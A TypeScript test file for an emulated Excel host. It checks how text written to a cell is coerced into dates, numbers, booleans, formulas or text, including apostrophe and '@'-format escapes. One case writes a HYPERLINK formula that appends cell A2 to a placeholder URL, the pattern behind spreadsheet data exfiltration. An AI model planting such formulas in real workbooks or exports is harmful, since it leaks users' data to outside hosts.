import fc from 'fast-check'
import { type OfficeHost, startOfficeHost } from './start'

async function write(host: OfficeHost, value: unknown, numberFormat?: string): Promise<unknown> {
  return host.run(async (context) => {
    const cell = context.workbook.worksheets.getItem('Sheet1').getRange('A1')
    if (numberFormat !== undefined) cell.numberFormat = [[numberFormat]]
    cell.values = [[value]]
    await context.sync()
    cell.load('values')
    await context.sync()
    return cell.values[0]?.[0] as unknown
  })
}

const cellA1 = (host: OfficeHost) => host.workbook.sheets[0]?.cells.get('A1')

describe('what becomes of a text written to values', () => {
  it.each([
    ['005930', 5930, 'General'],
    ['1-2', 45293, 'd-mmm'],
    ['3/4', 45355, 'd-mmm'],
    ['2024-08', 45505, 'mmm-yy'],
    ['2024-08-28', 45532, 'm/d/yyyy'],
    ['8/28/24', 45532, 'm/d/yyyy'],
    ['28 Aug 2024', 45532, 'd-mmm-yy'],
    ['12/3', 45629, 'd-mmm'],
    ['10:30', 0.4375, 'h:mm'],
    ['50%', 0.5, '0%'],
    ['12.5%', 0.125, '0.00%'],
    ['1e5', 100000, '0.00E+00'],
    ['1,234', 1234, '#,##0'],
    ['$1,234.50', 1234.5, '$#,##0.00_);[Red]($#,##0.00)'],
    ['(5)', -5, 'General'],
    ['-5', -5, 'General'],
    ['+5', 5, 'General'],
    ['0012', 12, 'General'],
    ['TRUE', true, 'General'],
    ['false', false, 'General'],
    ['#n/a', '#N/A', 'General'],
    ['₩1000', '₩1000', 'General'],
    ['1월 2일', '1월 2일', 'General'],
    ['3만5000개', '3만5000개', 'General'],
    ['13/45', '13/45', 'General'],
    ['2024-13', '2024-13', 'General'],
    ['＝1+1', '＝1+1', 'General'],
    ['@sum', '@sum', 'General'],
    ['=', '=', 'General'],
    ['1,23', '1,23', 'General'],
  ])('%s is %p, shown as %s', async (typed, value, numberFormat) => {
    const host = startOfficeHost()
    expect(await write(host, typed)).toBe(value)
    expect(cellA1(host)).toMatchObject({ value, numberFormat, formula: undefined })
  })

  it.each([
    ['=1+2', '=1+2'],
    ['=sum(A2:A3)', '=SUM(A2:A3)'],
    ['+1+2', '=+1+2'],
    ['-A2', '=-A2'],
    ['- a footnote', '=- a footnote'],
    ['=HYPERLINK("http://example.invalid/?"&A2,"x")', '=HYPERLINK("http://example.invalid/?"&A2,"x")'],
  ])('%s becomes a formula', async (typed, formula) => {
    const host = startOfficeHost()
    await write(host, typed)
    expect(cellA1(host)?.formula).toBe(formula)
  })

  it.each(['=SUM(', '=1+', '+)x', '-"open'])('%s is refused as a broken formula', async (typed) => {
    await expect(write(startOfficeHost(), typed)).rejects.toMatchObject({ code: 'InvalidArgument' })
  })

  it.each(['=1+2', '005930', '1-2', 'TRUE', '- a', '50%'])(
    '%s stays text in a cell of format @',
    async (typed) => {
      const host = startOfficeHost()
      expect(await write(host, typed, '@')).toBe(typed)
      expect(cellA1(host)?.formula).toBeUndefined()
    },
  )

  it.each(['=1+2', '005930', '', "'twice"])(
    'an apostrophe before %p makes it text and is lost',
    async (typed) => {
      const host = startOfficeHost()
      expect(await write(host, `'${typed}`)).toBe(typed)
      expect(cellA1(host)?.quotePrefix).toBe(true)
    },
  )

  it('keeps the number format a cell has', async () => {
    const host = startOfficeHost()
    expect(await write(host, '50%', '0.000')).toBe(0.5)
    expect(cellA1(host)).toMatchObject({ numberFormat: '0.000', text: '0.500' })
  })

  it('takes 32,767 characters and refuses one more', async () => {
    expect(await write(startOfficeHost(), 'x'.repeat(32_767))).toHaveLength(32_767)
    await expect(write(startOfficeHost(), 'x'.repeat(32_768))).rejects.toMatchObject({
      code: 'InvalidArgument',
    })
  })

  it('leaves a cell alone for null and NaN, and empties it for an empty text', async () => {
    const host = startOfficeHost()
    host.user.type('Sheet1', 'A1', 'kept')
    expect(await write(host, null)).toBe('kept')
    expect(await write(host, Number.NaN)).toBe('kept')
    expect(await write(host, '')).toBe('')
  })

  it('never changes a text led by an apostrophe, whatever it is', async () => {
    const host = startOfficeHost()
    const texts = fc.string({ unit: 'binary', maxLength: 40 }).filter((text) => text !== '')
    await fc.assert(
      fc.asyncProperty(texts, async (text) => {
        expect(await write(host, `'${text}`)).toBe(text)
      }),
      { numRuns: 60 },
    )
  })
})
